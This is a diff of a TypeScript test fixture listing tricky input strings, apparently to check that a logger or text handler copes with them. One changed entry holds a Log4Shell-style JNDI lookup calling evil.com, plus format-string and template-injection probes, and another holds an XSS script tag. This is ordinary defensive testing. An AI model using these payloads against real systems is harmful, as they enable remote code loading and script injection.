@@ -22,7 +22,7 @@ const texts: readonly (readonly [what: string, text: string])[] = [
   ["a NUL", "a\0b"],
   ["the other direction", "\u202egnol\u202c"],
   ["line separators", "a\u2028b\u2029c"],
-  ["a format", "%s%s%n%x ${jndi:ldap://evil.com/a} {{7*7}}"],
+  ["a format", "%s%s%n%x $\u007bjndi:ldap://evil.com/a} {{7*7}}"],
   ["markup", "<script>alert(1)</script>"],
   ["JSON", '","level":"error","x":"'],
   ["60 KB", "x".repeat(60_000)],
